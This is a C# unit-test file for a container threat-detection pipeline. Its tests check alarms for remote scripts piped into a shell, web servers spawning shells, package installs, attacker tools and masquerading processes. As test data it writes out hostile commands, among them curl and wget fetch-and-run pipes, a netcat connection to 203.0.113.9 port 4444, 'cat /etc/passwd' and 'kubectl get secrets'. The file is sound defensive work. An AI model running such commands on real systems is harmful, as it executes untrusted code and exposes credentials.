using Detection.Tests.Proof;
using Pipeline.Detection.MaliciousProgram;
using Pipeline.Domain.Alarms;
using Pipeline.Domain.Events;
using Testing;
using Testing.Scripts;
using static Detection.Tests.MaliciousProgram.ProgramScript;

namespace Detection.Tests.MaliciousProgram;

/// <summary>MP-04 and MP-06 to MP-09.</summary>
public sealed class BehaviourTests
{
    private const string PipeLine = "curl -s http://203.0.113.9/a.sh | sh";

    [Theory]
    [InlineData("curl -fsSL http://203.0.113.9/a | sh")]
    [InlineData("wget -qO- 203.0.113.9/a|bash")]
    [InlineData("cd /tmp && curl -s x | sudo bash -s -- --now")]
    [InlineData("(curl -s x || wget -qO- x) | sh")]
    [InlineData("curl x | tee /tmp/l | python3 -")]
    [Raises("MP-04")]
    public void Alarms_on_a_command_that_pipes_a_download_into_a_shell(string code) =>
        RunningContainer().Runs(11, "/bin/sh", "sh", "-c", code).ThenAlarms(Detectors, $"raised MP-04 High {code}: pipe:{code}");

    [Theory]
    [InlineData("curl -s http://127.0.0.1/health | grep -q ok")]
    [InlineData("curl -s x | tar xz && sh ./install.sh")]
    [InlineData("curl -o /tmp/a x; sh -c id")]
    [InlineData("curl -s x | python3 -m json.tool")]
    [InlineData("cat /etc/a.sh | sh")]
    [Spares("MP-04")]
    public void Says_nothing_of_other_pipes(string code) => RunningContainer().Runs(11, "/bin/sh", "sh", "-c", code).ThenAlarms(Detectors);

    [Fact]
    [Raises("MP-04")]
    public void Alarms_on_the_two_ends_of_a_pipe() =>
        RunningContainer().Runs(11, "/usr/bin/curl", ["curl", "-s", "http://203.0.113.9/a.sh"], Streams(4, Pipe))
            .By("c1", 10, "/usr/bin/app").After(0.2).Runs(12, "/bin/sh", ["sh"], Streams(Pipe, 4))
            .ThenAlarms(Detectors, $"raised MP-04 High {PipeLine}: pipe:{PipeLine}");

    [Fact]
    [Raises("MP-04")]
    public void Alarms_also_when_the_shell_is_seen_first() =>
        RunningContainer().Runs(12, "/bin/sh", ["sh"], Streams(Pipe, 4)).By("c1", 10, "/usr/bin/app")
            .Runs(11, "/usr/bin/curl", ["curl", "-s", "http://203.0.113.9/a.sh"], Streams(4, Pipe))
            .ThenAlarms(Detectors, $"raised MP-04 High {PipeLine}: pipe:{PipeLine}");

    [Fact]
    [Spares("MP-04")]
    public void Says_nothing_of_two_ends_that_do_not_belong_together() =>
        RunningContainer().Runs(11, "/usr/bin/curl", ["curl", "-s", "x"], Streams(4, Pipe)).By("c1", 10, "/usr/bin/app")
            .After(6).Runs(12, "/bin/sh", ["sh"], Streams(Pipe, 4))
            .By("c1", 30, "/bin/other").Runs(31, "/usr/bin/curl", ["curl", "-s", "x"], Streams(4, Pipe))
            .ThenAlarms(Detectors);

    [Theory]
    [InlineData("/usr/sbin/nginx", "/bin/sh", "sh", "-c", "id; cat /etc/passwd")]
    [InlineData("/usr/local/sbin/php-fpm8.2", "/bin/sh", "sh", "-c", "whoami")]
    [InlineData("/opt/java/bin/java", "/usr/bin/whoami", "whoami")]
    [InlineData("/usr/sbin/apache2", "/usr/bin/python3", "python3", "-c", "print(1)")]
    [Raises("MP-06")]
    public void Alarms_on_a_web_server_that_starts_a_shell_or_looks_around(string server, string path, params string[] arguments)
    {
        var alarms = RunningContainer().Runs(11, server, server).After(60).Forks(12).Runs(13, path, arguments).Run(Detectors);

        AlarmText.Short(alarms).ShouldBe([$"raised MP-06 High {server}: web-server:{server} started:{string.Join(' ', arguments)}"]);
    }

    [Theory]
    [InlineData("/bin/sh", "sh", "-c", "convert a.png b.jpg")]
    [InlineData("/bin/sh", "sh", "-c", "exec '/usr/bin/ffmpeg' -i a b")]
    [InlineData("/usr/sbin/rotatelogs", "rotatelogs", "/var/log/a", "86400")]
    [Spares("MP-06")]
    public void Says_nothing_of_helpers_of_web_applications(string path, params string[] arguments) =>
        RunningContainer().Runs(11, "/usr/local/sbin/php-fpm", "php-fpm").After(60).Runs(12, path, arguments).ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-06")]
    public void Says_nothing_of_a_server_that_is_starting() =>
        RunningContainer().Runs(11, "/usr/sbin/apache2", "apache2").After(2).Runs(12, "/bin/sh", "sh", "-c", "ulimit -n; locale -a")
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-06")]
    public void Says_nothing_of_npm_which_starts_everything_by_a_shell() =>
        RunningContainer().Runs(11, "/usr/local/bin/node", "node", "/usr/local/bin/npm", "start").After(60)
            .Runs(12, "/bin/sh", "sh", "-c", "node server.js; true")
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-06")]
    public void Says_nothing_of_a_command_line_that_the_policy_knows() =>
        RunningContainer().Runs(11, "/usr/sbin/nginx", "nginx").After(60).Runs(12, "/bin/sh", "sh", "-c", "date > /tmp/seen")
            .ThenAlarms(Under(MaliciousProgramPolicy.Default with { WebCommandLines = ["sh -c date > *"] }));

    [Fact]
    [Spares("MP-06")]
    public void Says_nothing_of_a_health_check_beside_the_server() =>
        RunningContainer().Runs(11, "/usr/sbin/nginx", "nginx").After(60).By("c1", 40, "/bin/sh")
            .Execs("/bin/sh", "sh", "-c", "curl -f localhost || exit 1")
            .ThenAlarms(Detectors);

    [Theory]
    [InlineData("/usr/bin/apt-get", "apt-get", "install", "-y", "nmap")]
    [InlineData("/sbin/apk", "apk", "--no-cache", "add", "curl")]
    [InlineData("/usr/bin/python3.11", "python3.11", "/usr/bin/pip3", "install", "x")]
    [InlineData("/usr/bin/python3", "python3", "-m", "pip", "install", "x")]
    [InlineData("/usr/local/bin/node", "node", "/usr/local/bin/npm", "install", "x")]
    [Raises("MP-07")]
    public void Alarms_on_software_that_is_installed_into_a_running_container(string path, params string[] arguments)
    {
        var alarms = RunningContainer().Runs(11, path, arguments).Run(Detectors);

        AlarmText.Short(alarms).ShouldHaveSingleItem()
            .ShouldStartWith($"raised MP-07 Medium {string.Join(' ', arguments)}: package-manager:");
    }

    [Fact]
    [Raises("MP-07")]
    public void Raises_one_alarm_for_a_package_manager_that_starts_another() =>
        RunningContainer().Runs(11, "/usr/bin/apt-get", "apt-get", "install", "x").Runs(12, "/usr/bin/dpkg", "dpkg", "--unpack", "x.deb")
            .Run(Detectors).Length.ShouldBe(1);

    [Fact]
    [Spares("MP-07")]
    public void Says_nothing_of_what_an_entry_point_installs_in_the_first_minute() =>
        Script.OnNode("n1").Created("c1", Some.PlainSpec()).By("c1", 10, "/bin/sh")
            .Execs("/bin/sh", "sh", "/entrypoint.sh").Started("c1").After(20)
            .Runs(11, "/usr/bin/apt-get", "apt-get", "install", "x").ThenAlarms(Detectors);

    [Theory]
    [InlineData("/usr/bin/dpkg", "dpkg", "-l")]
    [InlineData("/usr/bin/rpm", "rpm", "-qa")]
    [InlineData("/usr/local/bin/node", "node", "/usr/local/bin/npm", "run", "serve")]
    [Spares("MP-07")]
    public void Says_nothing_of_package_managers_that_only_look(string path, params string[] arguments) =>
        RunningContainer().Runs(11, path, arguments).ThenAlarms(Detectors);

    [Theory]
    [InlineData("/usr/bin/nmap", "nmap", "nmap", "-sS", "10.0.0.0/8")]
    [InlineData("/usr/bin/kubectl", "kubectl", "kubectl", "get", "secrets")]
    [InlineData("/bin/bash", "linpeas.sh", "bash", "/tmp/linpeas.sh")]
    [InlineData("/bin/busybox", "nc", "nc", "203.0.113.9", "4444")]
    [Raises("MP-08")]
    public void Alarms_on_tools_of_attackers(string path, string tool, params string[] arguments) =>
        RunningContainer().Runs(11, path, arguments).ThenAlarms(Detectors, $"raised MP-08 Medium {path}: tool:{tool}");

    [Fact]
    [Spares("MP-08")]
    public void Says_nothing_of_tools_in_images_of_tools_or_in_their_everyday_use() =>
        RunningContainer(Some.PlainSpec() with { Image = "nicolaka/netshoot:v0.13" }).Runs(11, "/usr/bin/nmap", "nmap", "db")
            .Created("c2", Some.PlainSpec()).By("c2", 20, "/bin/sh").Execs("/bin/sh", "sh").Runs(21, "/bin/nc", "nc", "-zv", "db", "5432")
            .ThenAlarms(Detectors);

    [Theory]
    [InlineData("[kworker/0:1]")]
    [InlineData("kworker/u8:3-events")]
    [InlineData("kthreadd")]
    [Raises("MP-09")]
    public void Alarms_on_programs_that_call_themselves_kernel_threads(string name) =>
        RunningContainer().Runs(11, "/opt/a", name, "-x").ThenAlarms(Detectors, $"raised MP-09 High /opt/a: masquerade:{name}");

    [Fact]
    [Raises("MP-09")]
    public void Alarms_when_a_programs_file_is_deleted_right_after_its_start() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(InImage())).After(2).Does(FileOperation.Unlink, "/opt/a", InImage())
            .ThenAlarms(Detectors, "raised MP-09 High /opt/a: deleted-while-running");

    [Fact]
    [Raises("MP-09")]
    public void Knows_a_deleted_program_by_its_path_where_the_call_tells_no_inode() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(InImage()))
            .Runs(12, "/bin/rm", "rm", "/opt/a").Does(FileOperation.Unlink, "/opt/a", default)
            .By("c2", 20).Does(FileOperation.Unlink, "/opt/a", default)
            .ThenAlarms(Detectors, "raised MP-09 High /opt/a: deleted-while-running");

    [Fact]
    [Spares("MP-09")]
    public void Says_nothing_when_the_program_has_ended_or_run_for_long_or_is_upgraded() =>
        RunningContainer()
            .Runs(11, "/tmp/a.out", ["a.out"], File(InImage(1))).Exits().By("c1", 10, "/usr/bin/app")
                .Does(FileOperation.Unlink, "/tmp/a.out", InImage(1))
            .Runs(12, "/opt/b", ["b"], File(InImage(2))).After(61).Does(FileOperation.Unlink, "/opt/b", InImage(2))
            .By("c1", 10, "/usr/bin/app").Runs(13, "/opt/c", ["c"], File(InImage(3)))
            .By("c1", 10, "/usr/bin/app").Runs(14, "/usr/bin/dpkg", "dpkg", "-l").Does(FileOperation.Unlink, "/opt/c", InImage(3))
            .ThenAlarms(Detectors);

    [Fact]
    [Raises("MP-08")]
    public void Labels_what_somebody_ran_in_a_session()
    {
        var session = new ScriptedTask { Container = "c1", Tgid = 50, Flags = TaskFlags.Started | TaskFlags.ExecSession };

        var alarms = RunningContainer().By(session).Execs("/usr/bin/nmap", "nmap", "db").Run(Detectors);

        alarms.OfType<AlarmRaised>().ShouldHaveSingleItem().Labels.ShouldBe(["via-exec"]);
    }
}
